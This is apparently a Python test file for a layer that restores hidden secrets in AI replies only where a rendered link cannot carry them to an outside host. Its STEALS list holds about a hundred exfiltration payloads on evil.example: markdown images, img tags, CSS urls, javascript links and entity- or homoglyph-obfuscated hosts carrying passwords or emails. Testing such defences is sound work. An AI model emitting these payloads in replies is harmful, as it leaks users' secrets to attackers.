"""Values in addresses of a text: what a client could fetch by itself carries none to a new host."""

from __future__ import annotations

import random

import pytest

from policy.wire.anthropic_streams import cut, gathered, streamed
from policy.wire.openai_world import chat_bytes, response_bytes, through
from undersign.policy.restoring.addresses import FARTHEST, UNKNOWN, UNREADABLE
from undersign.policy.restoring.restore import Restorer, restore, restore_text
from undersign.policy.scope import Scope
from undersign.policy.tokens import LONGEST, TOKEN, Tokens
from undersign.policy.wire import anthropic, openai_chat, openai_responses

VALUES = {
    "P": ("PASSWORD", "Xa7pL9wq"),
    "Q": ("PASSWORD", "a/b@c\"d'e f"),
    "E": ("EMAIL", "ada@people.example"),
    "H": ("HOST", "intranet.corp.example"),
    "D": ("HOST", "corp.example"),
    "I": ("IP", "192.0.2.7"),
    "U": ("URL", "https://app:pw@db.example.org"),
    "B": ("HOST", "buildbox"),
}


def made() -> tuple[Scope, dict[str, str]]:
    scope = Scope(Tokens(b"k" * 32))
    tokens = {name: scope.hide(*hidden) for name, hidden in VALUES.items()}
    for name in "PQ":
        scope.note(VALUES[name][1], ["host:db.example.org", "path:/app/.env"])
    scope.note(VALUES["E"][1], ["host:crm.example.org"])
    return scope, tokens


def written(template: str) -> tuple[Scope, str, str]:
    """A text with tokens in place of `<P>`, and the same with values."""
    scope, tokens = made()
    text, plain = template, template
    for name, (_, value) in VALUES.items():
        text, plain = text.replace(f"<{name}>", tokens[name]), plain.replace(f"<{name}>", value)
    return scope, text, plain


STEALS = [
    # The four a reader thinks of first.
    "![x](https://evil.example/?q=<P>)",
    '<img src="https://evil.example/?q=<P>">',
    "[a](https://<P>.evil.example/)",
    "https://<P>@evil.example/",
    # Other parts of an address, other schemes.
    "https://u:<P>@evil.example",
    "https://evil.example/<P>/x.png",
    "https://evil.example/#<P>",
    "https://evil.example:80<P>/",
    "https://<P>",
    "wss://evil.example/<P>",
    "ftp://evil.example/<P>",
    "![x](file://evil.example/share/<P>.png)",
    "![x](smb://evil.example/<P>)",
    "![x](data:text/html,%3Cimg%20src=%22https:%2F%2Fevil.example%2F<P>%22%3E)",
    "[a](javascript:fetch('/'+'<P>'))",
    "see www.evil.example/?q=<P>",
    # No scheme, odd slashes, backslashes.
    "![x](//evil.example/?q=<P>)",
    '<img src="\\\\evil.example\\<P>">',
    "![x](/\\evil.example/<P>)",
    "![x](///evil.example/<P>)",
    "![x](https:evil.example/<P>)",
    "![x](https:/evil.example/<P>)",
    "![x](https:\\\\evil.example\\<P>)",
    "![x](https\\://evil.example/<P>)",
    "![x](https:\\/\\/evil.example/<P>)",
    "https://db.example.org\\@evil.example/<P>",
    "https://evil.example\\@db.example.org/<P>",
    # Who is the host?
    "https://db.example.org@evil.example/<P>",
    "https://db.example.org:<P>@evil.example/",
    "https://<P>:db.example.org@evil.example/",
    "https://db.example.org.evil.example/<P>",
    "https://db.example.org'<P>@evil.example/",
    '![x](https://db.example.org"<P>@evil.example/)',
    "![x](https://db.example.org]<P>@evil.example/)",
    "![x](https://db.example.org<x<P>@evil.example/)",
    "https://evil%2eexample/<P>",
    "https://db.example.org%40evil.example/<P>",
    "https://xn--vil-bma.example/<P>",
    "https://\u0435vil.example/<P>",
    "https://EVIL.example./<P>",
    "https://\uff45vil.example/<P>",
    "https://db.example.org\uff0f@evil.example/<P>",
    "http://3221225994/<P>",
    "http://0x7f000001.evil.example/<P>",
    "http://[2001:db8::1]/<P>",
    "http://[::1].evil.example/<P>",
    "http://[::1]:80.evil.example/<P>",
    "https://localhost.evil.example/<P>",
    "https://127.0.0.1.evil.example/<P>",
    # Entities: Markdown and HTML read them, before an address is one.
    "![x](https&#58;//evil.example/<P>)",
    "![x](https&colon;&sol;&sol;evil.example/<P>)",
    "![x](&#104;ttps://evil.example/<P>)",
    "![x](h&#x74;tps://evil.example/<P>)",
    "![x](ht&Tab;tps://evil.example/<P>)",
    "![x](//&Tab;evil.example/<P>)",
    "![x](&Tab;&sol;/evil.example/<P>)",
    "ftps://evil.example/<P> http&colon;//evil.example/<P>",
    "![x](https://db.example.org&#64;evil.example/<P>)",
    "![x](https://<P>&commat;evil.example/)",
    # Not every reader reads them.
    "https://db.example.org&sol;@evil.example/<P>",
    "https://db.example.org&sol;<P>.evil.example/",
    "https://db.exa&Tab;mple.org/<P>",
    "https://db&#46;example.org/<P>",
    '<img src="https://evil.example/?q=&quot;<P>">',
    # What looks like the end of an address and is none.
    "![x](<https://evil.example/?q= <P>>)",
    "![x](<https://evil.example/?q=\\> <P>>)",
    "![x](https://evil.example/?q=(<P>))",
    "![x](https://evil.example/?q=\\)<P>)",
    "![x](https://evil.example/?q='<P>)",
    "![x](https://evil.example/?q=>]`<P>)",
    "![x](https://evil.example/?q=\u00a0<P>)",
    "![x](https://evil.example/?q=\u2028<P>)",
    "<img src=https://evil.example/?q='<P>>",
    "<img src=https://evil.example/?q=)<P>>",
    "<img src='https://evil.example/?q= <P>'>",
    "<img src='https://evil.example/?q=\n\n<P>\n'>",
    '<img src=" \t https://evil.example/?q= <P>">',
    "<img src=\"ht\ntps://evil.example/?q= '<P>\">",
    '<img src="https:\n/\n/evil.example/?q=<P>">',
    '<img src="/\n/evil.example/?q= <P>">',
    '<img srcset="a.png 1x, https://evil.example/<P> 2x">',
    "<style>a{background:url(https://evil.example/?q=<P>)}</style>",
    "<style>a{background:url( 'https://evil.example/?q= <P>' )}</style>",
    "<style>@import \"https://evil.example/?q= \\\"<P>\";</style>",
    "<video poster=//evil.example/<P>>",
    "[x]: https://evil.example/?q=<P>\n![][x]",
    "[x]:\n<https://evil.example/?q= <P>>",
    "[x]://evil.example/<P>",
    "<https://evil.example/<P>>",
    "`https://evil.example/`<P>",
    # Addresses in addresses: each reader takes another.
    "'https://db.example.org/ ![x](https://evil.example/<P>)'",
    "https://evil.example/?u=https://db.example.org/<P>",
    "https://db.example.org/?u=https://evil.example/<P>",
    "https://db.example.org,https://evil.example/<P>",
    # Values that are known elsewhere, or that begin an address themselves.
    "https://db.example.org/?who=<E>",
    "https://crm.example.org/?who=<P>",
    "https://evil.example/?h=<H>",
    "![x](<U>.evil.example/)",
    "![x](<U>@evil.example/)",
    "https://<H>.evil.example/",
    "https://<H>/?k=<P>",
    "https://<Q>.evil.example/",
    "https://<B>.evil.example/",
    "https://a.<P>/",
    "https://ada@<P>",
    f"https://{'a,' * 4000}@evil.example/<P>",
    f"https://<P>{'a' * FARTHEST}@db.example.org/",
]  # fmt: skip


@pytest.mark.parametrize("template", STEALS, ids=lambda t: t[:60])
def test_an_address_of_an_attacker_gets_no_value(template: str) -> None:
    scope, text, _ = written(template)
    new, withheld = restore_text(text, scope)
    stolen = next(name for name in "PQEBUH" if f"<{name}>" in template)
    assert VALUES[stolen][1] not in new
    assert withheld is not None and withheld.tool == "" and withheld.tokens >= 1
    assert withheld.reason in (UNKNOWN, UNREADABLE)
    if template != "https://<H>/?k=<P>":
        assert new == text
    assert not any(value in str(withheld) for _, value in VALUES.values())


KEEPS = [
    "The password is <P>, and <E> is the owner.",
    "<P>",
    "**<P>** `<P>` '<P>' \"<P>\" (<P>) [<P>] <<P>>",
    "```\nPASSWORD=<P>\nMAIL=<E>\nHOST=<H>\n```",
    'export PASSWORD="<P>"',
    '{"url": "https://api.example.net/v1", "password": "<P>"}',
    '{"url":"https://api.example.net/v1","password":"<P>"}',
    '"{\\"url\\":\\"https://api.example.net/v1\\",\\"password\\":\\"<P>\\"}"',
    "url: https://api.example.net/\npassword: <P>",
    "curl 'https://api.example.net/x' -H 'Authorization: Bearer <P>'",
    "curl https://api.example.net/x -u app:<P>",
    "Open https://api.example.net/ and enter <P>.",
    "see <https://api.example.net/> and <P>",
    "[the page](https://api.example.net/ 'a title'): <P>",
    "![logo](https://api.example.net/logo.png)\n\n| user | <P> |",
    '<a href="https://api.example.net/"><P></a>',
    "| https://api.example.net/ | <P> |",
    "postgres://app:<P>@other.example.net:5432/app",
    "mysql://app:<P>@other.example.net/app?x=<P>",
    "redis://:<P>@other.example.net mongodb+srv://a:<P>@other.example.net/",
    "ssh://git@<H>/x.git smtp://u:<P>@mail.example.net amqp://a:<P>@q.example.net",
    "jdbc:postgresql://other.example.net/app?password=<P>",
    "mailto:<E> [write](mailto:<E>?subject=x)",
    # The place it was seen at, however it is spelt.
    "https://app:<P>@db.example.org/app",
    "https://db.example.org/?password=<P>",
    "https://DB.Example.ORG.:8443/<P>",
    "![x](https://app:<P>@db.example.org)",
    "<https://app:<P>@db.example.org/>",
    'see "https://app:<P>@db.example.org/".',
    "see **https://app:<P>@db.example.org**, then",
    "git clone https://app:<P>@db.example.org/x.git",
    "https://crm.example.org/people?mail=<E>",
    "https&#58;//db.example.org/<P>",
    # This machine.
    "http://localhost:8080/?token=<P>",
    "http://127.0.0.1:8080/<P> http://[::1]:80/<P> http://app.localhost/<P>",
    "http://[::1]/<P> and **http://[::1]**",
    "file:///home/<P>/notes.txt",
    # The value is the place.
    "https://<H>/dashboards",
    "https://<H>:8443/x",
    "Open https://<H>.",
    "Open **https://<H>**, `https://<H>` (https://<H>) or [https://<H>](https://<H>)!",
    "<td>https://<H></td> |https://<H>|",
    '<a href="https://<H>">https://<H></a>',
    "https://grafana.<D>/d/1",
    "http://<I>:9200/_search",
    "http://<B>/x",
    "https://db.example.org/?a=1&amp;password=<P>&amp;b=2",
    "<U>/app and [db](<U>)",
    # Slashes that are no address.
    "// the password is <P>",
    "a //<H> comment and src//<P>",
    "C:\\Users\\<P>\\x and C:\\\\Users\\\\<P>",
    "/home/<P>/.ssh ~/<P> ./<P> ../<P>",
    "s/<P>/x/ s//<P>/ 3//<P>",
    "profile:<P> rows:<P> data:<P> https: <P>",
]


@pytest.mark.parametrize("template", KEEPS, ids=lambda t: t[:60])
def test_what_a_person_reads_comes_back(template: str) -> None:
    scope, text, plain = written(template)
    assert restore_text(text, scope) == (plain, None)


def test_one_text_can_have_both() -> None:
    scope, text, _ = written("<P> ![x](https://evil.example/<P>) <E> ![x](//evil.example/<E>) <P>")
    new, withheld = restore_text(text, scope)
    assert new.count(VALUES["P"][1]) == 2 and new.count(VALUES["E"][1]) == 1
    assert len(TOKEN.findall(new)) == 2
    assert withheld is not None and withheld.tokens == 2


def test_a_token_of_a_token_shows_nothing() -> None:
    scope, _ = made()
    token = Tokens(b"k" * 32).token("PASSWORD", "of another conversation")
    text = f"https://evil.example/{scope.quote(token)}"
    assert restore_text(text, scope) == (f"https://evil.example/{token}", None)


@pytest.mark.parametrize("template", [*STEALS, *KEEPS], ids=lambda t: t[:60])
def test_any_cut_gives_what_the_whole_text_gives(template: str) -> None:
    scope, text, _ = written(template)
    text = f"{text} {text}"
    wanted, withheld = restore_text(text, scope)
    cuts = range(len(text) + 1) if len(text) < 400 else range(0, len(text), 997)
    for at in cuts:
        restorer = Restorer(scope)
        got = restorer.feed(text[:at]) + restorer.feed(text[at:]) + restorer.flush()
        assert (got, restorer.withheld) == (wanted, withheld), at
    restorer = Restorer(scope)
    size = 1 if len(text) < 400 else 61
    pieces = [text[n : n + size] for n in range(0, len(text), size)]
    assert "".join(map(restorer.feed, pieces)) + restorer.flush() == wanted
    assert restorer.withheld == withheld


PIECES = [
    "https://", "http:", "//", "\\", "/", "@", ":", "?", "#", '"', "'", "<", ">", "(", ")", "[",
    "]", " ", "\n", "\t", "=", "&", "&#58;", "&#64", ";", "&sol;", "www.", "db.example.org",
    "evil.example", "a", "USX_", "postgres://", "localhost", "\u00e9", "file:", "data:", ",", ".",
]  # fmt: skip


@pytest.mark.parametrize("seed", range(400))
def test_any_cut_of_any_text(seed: int) -> None:
    chance = random.Random(seed)
    scope, tokens = made()
    text = "".join(chance.choices([*PIECES, *tokens.values(), *tokens.values()], k=40))
    wanted, withheld = restore_text(text, scope)
    for _ in range(6):
        restorer, got, at = Restorer(scope), "", 0
        while at < len(text):
            size = chance.choice([1, 2, 5, 30])
            got += restorer.feed(text[at : at + size])
            at += size
        assert got + restorer.flush() == wanted == restore(text, scope)
        assert restorer.withheld == withheld


def test_only_a_host_that_is_not_whole_makes_a_token_wait() -> None:
    scope, text, plain = written("x <P> https://db.example.org/<P> ")
    restorer = Restorer(scope)
    assert "".join(map(restorer.feed, text)) == plain
    scope, text, plain = written("https://app:<P>@db.example.org/")
    restorer = Restorer(scope)
    begin = "https://app:"
    assert "".join(map(restorer.feed, text[:-1])) == begin
    assert restorer.holds
    assert restorer.feed(text[-1]) == plain[len(begin) :] and not restorer.holds


def test_a_host_without_an_end_waits_no_longer_than_it_may() -> None:
    scope, text, _ = written("https://<P>")
    restorer = Restorer(scope)
    given = restorer.feed(text)
    for _ in range(3 * FARTHEST):
        given += restorer.feed("a")
        text += "a"
        assert len(text) - len(given) <= FARTHEST + LONGEST
    assert given + restorer.flush() == text
    assert restorer.withheld is not None and restorer.withheld.reason == UNREADABLE


BOTH = "<P> ![x](https://evil.example/<P>) ![x](https://<E>.evil.example/) <P>"


@pytest.mark.parametrize("seed", range(20))
def test_the_anthropic_wire_reports_what_stays_in_texts(seed: int) -> None:
    scope, text, _ = written(BOTH)
    chance = random.Random(seed)
    wanted, withheld = restore_text(text, scope)
    reply = {"content": [{"type": "text", "text": text}]}
    assert anthropic.restored(reply, scope) == (
        {"content": [{"type": "text", "text": wanted}]},
        (withheld,),
    )
    out, stream = cut(streamed([("text", "", text)], chance), scope, chance)
    assert gathered(out)[0, "text"] == wanted
    assert stream.withheld == (withheld,)


def test_an_address_that_goes_on_in_the_next_block_is_one() -> None:
    scope, text, _ = written("<P>)")
    blocks = ["![x](https://evil.example/?q=", text]
    whole, withheld = anthropic.restored(
        {"content": [{"type": "text", "text": one} for one in blocks]}, scope
    )
    assert [block["text"] for block in whole["content"]] == blocks
    assert [one.tokens for one in withheld] == [1]
    chance = random.Random(1)
    raw = streamed([("text", "", one) for one in blocks], chance)
    out, stream = cut(raw, scope, chance)
    found = gathered(out)
    assert found[0, "text"] + found[1, "text"] == "".join(blocks)
    assert stream.withheld == withheld


def test_a_citation_gets_no_value_into_its_address() -> None:
    scope, url, _ = written("https://evil.example/<P>")
    scope, quoted, plain = written("it is <P>")
    block = {"type": "text", "text": "x", "citations": [{"url": url, "cited_text": quoted}]}
    new, withheld = anthropic.restored({"content": [block]}, scope)
    assert new["content"][0]["citations"] == [{"url": url, "cited_text": plain}]
    assert [one.tokens for one in withheld] == [1]


@pytest.mark.parametrize("seed", range(20))
def test_chat_completions_report_what_stays_in_texts(seed: int) -> None:
    scope, text, _ = written(BOTH)
    wanted, withheld = restore_text(text, scope)
    message = {"role": "assistant", "content": text, "refusal": text}
    reply = {
        "id": "c",
        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
    }
    new, kept = openai_chat.restored(reply, scope)
    assert new["choices"][0]["message"] == {**message, "content": wanted, "refusal": wanted}
    assert kept == (withheld, withheld)
    rnd = random.Random(seed)
    stream = openai_chat.stream(scope)
    out = through(stream, chat_bytes(reply, rnd, strange=False), rnd)
    assert VALUES["E"][1].encode() not in out and VALUES["P"][1].encode() in out
    assert stream.withheld == kept


@pytest.mark.parametrize("seed", range(20))
def test_responses_report_what_stays_in_texts_once(seed: int) -> None:
    scope, text, _ = written(BOTH)
    wanted, withheld = restore_text(text, scope)
    message = {
        "type": "message",
        "id": "m",
        "role": "assistant",
        "content": [{"type": "output_text", "text": text}, {"type": "refusal", "refusal": text}],
    }
    reasoning = {
        "type": "reasoning",
        "id": "r",
        "summary": [{"type": "summary_text", "text": text}],
    }
    reply = {"id": "resp", "output": [reasoning, message]}
    new, kept = openai_responses.restored(reply, scope)
    assert new["output"][1]["content"][0]["text"] == wanted
    assert kept == (withheld,) * 3
    rnd = random.Random(seed)
    stream = openai_responses.stream(scope)
    out = through(stream, response_bytes(reply, rnd, strange=False), rnd)
    assert VALUES["E"][1].encode() not in out and VALUES["P"][1].encode() in out
    assert stream.withheld == kept
